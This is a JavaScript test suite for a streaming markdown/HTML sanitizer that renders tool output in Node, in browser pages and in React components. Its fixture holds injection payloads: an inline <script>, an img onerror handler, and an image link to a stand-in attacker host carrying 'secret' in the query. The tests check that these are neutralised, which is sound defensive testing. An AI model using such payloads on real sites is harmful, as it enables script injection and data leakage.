// Output that arrives: patches in Node, the blocks of docs/streaming.md in a page, and React's components.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { suite, test } from "node:test";
import { build } from "esbuild";
import { CordonError, createPatchStream, inspectToolOutput, sanitizeMarkdown } from "../../pkg/index.js";
import * as html from "../../pkg/html.js";
import * as markdown from "../../pkg/markdown.js";
import { parsed, textOf } from "./pages.mjs";
import { open, pkg, repository } from "./support.mjs";

const ANSWER = [
  "# Answer",
  "",
  "Some **bold** words <script>window.ran = true</script> and ![x](https://evil.example/?q=secret).",
  "",
  "- one",
  "- two <img src=x onerror='window.ran = true'>",
  "",
  "```js",
  "let a = 1 < 2;",
  "```",
  "",
  "The end, 😀.",
].join("\n");

const stream = (text, size, options) => {
  const patches = createPatchStream(options);
  const changes = [];
  for (let at = 0; at < text.length; at += size) changes.push(...patches.append(text.slice(at, at + size)).changes);
  const { patch, report } = patches.end();
  return { changes: [...changes, ...patch.changes], report };
};

const isError = (code, names) => (error) =>
  error instanceof CordonError && error.code === code && error.message.includes(names);

suite("patches", () => {
  test("the end's report is that of the whole, whatever the cut", () => {
    const whole = sanitizeMarkdown(ANSWER);
    for (const size of [1, 2, 7, 1000]) assert.equal(stream(ANSWER, size).report.html, whole);
    const markup = `<p>${ANSWER}<table><tr><td>x</table>`;
    const { report } = stream(markup, 3, { text: "html" });
    const expected = inspectToolOutput(markup);
    assert.deepEqual(
      [report.html, report.removed, report.changed],
      [expected.html, expected.removed, expected.changed],
    );
    assert.equal(stream("a < b & c", 1, { text: "plain" }).report.html, "a &lt; b &amp; c");
  });

  test("they can be cloned, and say what grows", () => {
    const patches = createPatchStream();
    const first = patches.append("One");
    assert.deepEqual(structuredClone(first), first);
    assert.deepEqual(patches.append(" two"), { changes: [{ path: [0, 0], text: " two" }] });
  });

  test("half a surrogate pair waits for the other, and one that stays alone is U+FFFD", () => {
    const patches = createPatchStream({ text: "plain" });
    assert.deepEqual(patches.append("\ud83d").changes, []);
    assert.match(JSON.stringify(patches.append("\ude00")), /😀/);
    patches.append("\ud83d");
    assert.equal(patches.end().report.html, "😀\ufffd");
  });

  test("removals are told once", () => {
    const told = [];
    const patches = createPatchStream({ onRemoval: ({ code }) => told.push(code) });
    for (const character of ANSWER) patches.append(character);
    const early = told.length;
    const { report } = patches.end();
    assert.ok(early > 0, "before the end");
    assert.deepEqual(told.sort(), report.removed.map(({ code }) => code).sort());
  });

  test("limits hold for the sum, and then all is refused", () => {
    const patches = createPatchStream({ limits: { bytes: 10 } });
    patches.append("12345");
    assert.throws(() => patches.append("67890abc"), isError("limit-bytes", "options.limits.bytes is 10"));
    assert.throws(() => patches.append("x"), isError("invalid-input", "the stream is over"));
    assert.throws(() => patches.end(), isError("invalid-input", "the stream is over"));
  });

  test("options are checked at the start, and errors name them", () => {
    assert.throws(() => createPatchStream({ text: "rtf" }), isError("invalid-option", "options.text"));
    assert.throws(() => createPatchStream({ unfinished: true }), isError("invalid-option", "options.unfinished"));
    assert.throws(() => createPatchStream({ profil: "rich" }), isError("invalid-option", "profil"));
    assert.throws(() => html.createPatchStream({ text: "markdown" }), isError("invalid-option", "options.text"));
    assert.throws(() => createPatchStream().append(1), isError("invalid-input", "chunk"));
  });

  test("the entries that hold less have it, too", () => {
    const markup = html.createPatchStream();
    assert.match(JSON.stringify(markup.append("<b>a")), /<b>a<\/b>/);
    const text = markdown.createPatchStream();
    assert.match(JSON.stringify(text.append("**a")), /<strong>a<\/strong>/);
  });

  test("what the caller's rewriteUrl throws leaves as the error's cause", () => {
    const cause = new Error("no");
    const rewriteUrl = () => {
      throw cause;
    };
    const patches = createPatchStream({ rewriteUrl });
    assert.throws(
      () => patches.append("[a](https://a.example/) b"),
      (error) => error instanceof CordonError && error.cause === cause,
    );
  });
});

const { blocks } = parsed(textOf("docs/streaming.md"));
const block = (language, nth = 0) => blocks.filter((block) => block.language === language)[nth].code;

/** A page of an application's, with a server that answers slowly and counts what else is asked of it. */
async function shown(t, code, loader = "js") {
  const { outputFiles } = await build({
    stdin: { contents: code, resolveDir: repository, loader },
    ...{ bundle: true, format: "esm", write: false, logLevel: "silent", jsx: "automatic", target: "es2022" },
    define: { "process.env.NODE_ENV": '"development"' },
  });
  const server = createServer(async (request, response) => {
    if (request.url === "/app.js") {
      response.setHeader("Content-Type", "text/javascript; charset=utf-8").end(outputFiles[0].text);
    } else if (request.url === "/answer") {
      response.setHeader("Content-Type", "text/plain; charset=utf-8");
      const bytes = Buffer.from(ANSWER);
      for (let at = 0; at < bytes.length; at += 5) {
        response.write(bytes.subarray(at, at + 5));
        await new Promise((resolve) => setTimeout(resolve, 2));
      }
      response.end();
    } else {
      response.setHeader("Content-Type", "text/html; charset=utf-8");
      response.end(
        `<!doctype html><title>App</title><div id="output"></div><script type="module" src="/app.js"></script>`,
      );
    }
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  const { page, errors } = await open(t, "about:blank");
  const asked = [];
  page.on("request", (request) => asked.push(request.url()));
  await page.goto(`http://127.0.0.1:${server.address().port}/`);
  await page.waitForFunction(() => window.done !== undefined, null, { timeout: 60_000 });
  return { page, errors, asked };
}

async function isAnswer({ page, errors, asked }) {
  const whole = sanitizeMarkdown(ANSWER);
  const seen = await page.evaluate((whole) => {
    const wanted = document.createElement("div");
    wanted.innerHTML = whole;
    const target = document.querySelector("[data-shown]") ?? document.querySelector("#output");
    const same = [...target.childNodes].every((node, at) => node.isEqualNode(wanted.childNodes[at]));
    return {
      same: same && target.childNodes.length === wanted.childNodes.length,
      ran: window.ran,
      html: target.innerHTML,
    };
  }, whole);
  assert.deepEqual([seen.same, seen.ran, errors], [true, undefined, []], seen.html);
  assert.deepEqual(
    asked.filter((url) => url.includes("evil.example")),
    [],
  );
}

suite("docs/streaming.md", () => {
  test("a page shows what is fetched", async (t) => {
    await isAnswer(await shown(t, `${block("js")}\nwindow.done = true;`));
  });

  test("README.md: a page shows what is fetched, under a policy", async (t) => {
    const [, code] = /```js\n(import \{ streamToolOutput.*?)\n```/s.exec(textOf("README.md"));
    await isAnswer(await shown(t, `const policy = {};\n${code}\nwindow.done = true;`));
  });

  test("a worker's patches", async (t) => {
    const code = `${block("js", 1)}
      const queue = [];
      const { append, end } = work((patch) => queue.push(structuredClone(patch)));
      for (const character of ${JSON.stringify(ANSWER)}) append(character);
      end();
      queue.forEach(show(document.querySelector("#output")));
      window.done = true;`;
    await isAnswer(await shown(t, code));
  });

  const react = (app) => `
    import { StrictMode, useEffect, useState } from "react";
    import { createRoot } from "react-dom/client";
    ${app}
    createRoot(document.querySelector("#output")).render(<StrictMode><App /></StrictMode>);`;

  test("React's component, in StrictMode", async (t) => {
    const app = `${block("jsx")}
      const response = await fetch("/answer");
      const stream = response.body.pipeThrough(new TextDecoderStream());
      const App = () => <div><Answer stream={stream} onEnd={() => {
        document.querySelector("#output > div > div").dataset.shown = "";
        window.done = true;
      }} /></div>;`;
    await isAnswer(await shown(t, react(app), "jsx"));
  });

  test("a string that grows in React's state keeps its nodes", async (t) => {
    const app = `
      import { ToolOutput } from "mcp-cordon/react";
      const text = ${JSON.stringify(ANSWER)};
      window.first = [];
      const App = () => {
        const [length, setLength] = useState(1);
        useEffect(() => {
          const next = setTimeout(() => setLength((length) => Math.min(length + 3, text.length)), 3);
          const heading = document.querySelector("h1");
          // Its id is made of its text, so it is another element for as long as that grows.
          if (heading && document.querySelector("p") && !window.first.includes(heading)) window.first.push(heading);
          return () => clearTimeout(next);
        });
        return <ToolOutput data-shown="" result={text.slice(0, length)} streaming={length < text.length}
          onEnd={() => { window.done = true; }} />;
      };`;
    const result = await shown(t, react(app), "jsx");
    await isAnswer(result);
    assert.equal(await result.page.evaluate(() => window.first.length), 1, "the heading is one node");
  });
});

test("the streams' exports belong to the sanitizer's modules", () => {
  const has = (file) => readFileSync(join(pkg, `${file}.js`), "utf8").includes("streamBegin");
  assert.deepEqual(["html-module", "audit-module", "guard-module", "service-worker", "server"].filter(has), [
    "html-module",
  ]);
});
